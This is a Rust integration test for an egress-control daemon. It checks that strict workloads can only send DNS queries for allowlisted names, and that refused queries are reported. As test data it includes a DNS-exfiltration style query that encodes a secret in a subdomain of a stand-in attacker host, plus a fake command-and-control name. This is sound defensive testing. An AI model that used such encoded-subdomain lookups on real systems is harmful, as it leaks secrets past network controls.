//! DNS questions are destinations too: with `dns_queries = "allowlisted"`, a strict workload
//! can ask its resolver only about names its FQDN rules allow. Other questions never leave
//! the host (the sender gets EPERM at once, the resolver never sees them), and the event
//! names the refused name; audit mode lets them through and reports them.
//!
//! Privileged: root, cgroup v2, built binaries (`cargo build --bins`), dnsmasq.

use egressd_tests::{
    Daemon, DnsSettings, Dnsmasq, EVENT_TIMEOUT, TcpTarget, TestCgroup, WorkloadSpec, allow_fqdn,
    policy_toml, run_probe_in,
};

const PROBE: &str = "probe";
const RESOLVER: &str = "127.0.53.42";
const ALLOWED: &str = "api.vendor.test";

fn allowlisted_policy(cgroup: &TestCgroup, port: u16) -> String {
    let mut text = policy_toml(
        "strict",
        &[],
        &[WorkloadSpec::new(PROBE, cgroup).allow(allow_fqdn(ALLOWED, &[port], "tcp"))],
    );
    // The harness writes `raw_sockets` for every workload: the DNS setting goes next to it.
    text = text.replacen(
        "raw_sockets = false\n",
        "raw_sockets = false\ndns_queries = \"allowlisted\"\n",
        1,
    );
    text.push_str(&DnsSettings::resolvers(&[RESOLVER]).toml());
    text
}

#[test]
fn privileged_strict_refuses_questions_about_names_off_the_allowlist() {
    let cgroup = TestCgroup::new();
    let api = TcpTarget::bind("127.0.0.5");
    let dnsmasq = Dnsmasq::builder(RESOLVER)
        .host(ALLOWED, "127.0.0.5")
        .host("c2.attacker.test", "127.0.0.6")
        .start();
    let daemon = Daemon::start(&allowlisted_policy(&cgroup, api.port));

    run_probe_in(
        &cgroup,
        &["resolve-connect", RESOLVER, ALLOWED, &api.port_str()],
    )
    .assert_ok("an allowed name resolves and connects");
    let secret = "c2ZjcmV0LWtleQ.exfil.attacker.test";
    run_probe_in(&cgroup, &["dns-query", RESOLVER, secret, "500"])
        .assert_eperm("a question about a name no rule allows");
    run_probe_in(&cgroup, &["dns-query", RESOLVER, "c2.attacker.test", "500"])
        .assert_eperm("another name off the allowlist");

    let event = daemon.wait_for_event("the refused question", EVENT_TIMEOUT, |event| {
        event["kind"] == "denied" && event["dns_name"] == secret
    });
    assert_eq!(event["reason"], "dns_query", "{event}");
    assert_eq!(event["workload"], PROBE, "{event}");
    assert_eq!(event["destination"], format!("{RESOLVER}:53"), "{event}");
    let logs = dnsmasq.logs();
    assert!(logs.contains(&format!("query[A] {ALLOWED}")), "{logs}");
    assert!(
        !logs.contains("attacker.test"),
        "refused questions never reached the resolver:\n{logs}"
    );
    let status = daemon.status();
    assert!(
        status["datapath"]["counters"].is_null() || status.is_object(),
        "{status}"
    );

    // Audit: the question goes out, and is reported as one strict mode would refuse.
    daemon.ctl_ok(&["mode", "audit", "--workload", PROBE]);
    run_probe_in(&cgroup, &["dns-query", RESOLVER, "c2.attacker.test", "500"])
        .assert_ok("audit lets the question through");
    daemon.wait_for_event("the would-refuse report", EVENT_TIMEOUT, |event| {
        event["kind"] == "would_deny" && event["dns_name"] == "c2.attacker.test"
    });
    assert!(dnsmasq.logs().contains("query[A] c2.attacker.test"));
}

#[test]
fn privileged_questions_are_free_unless_the_workload_opts_in() {
    let cgroup = TestCgroup::new();
    let api = TcpTarget::bind("127.0.0.5");
    let dnsmasq = Dnsmasq::builder(RESOLVER)
        .host("c2.attacker.test", "127.0.0.6")
        .start();
    let mut policy = policy_toml(
        "strict",
        &[],
        &[WorkloadSpec::new(PROBE, &cgroup).allow(allow_fqdn(ALLOWED, &[api.port], "tcp"))],
    );
    policy.push_str(&DnsSettings::resolvers(&[RESOLVER]).toml());
    let _daemon = Daemon::start(&policy);
    run_probe_in(&cgroup, &["dns-query", RESOLVER, "c2.attacker.test", "500"])
        .assert_ok("dns_queries defaults to any");
    assert!(dnsmasq.logs().contains("query[A] c2.attacker.test"));
}
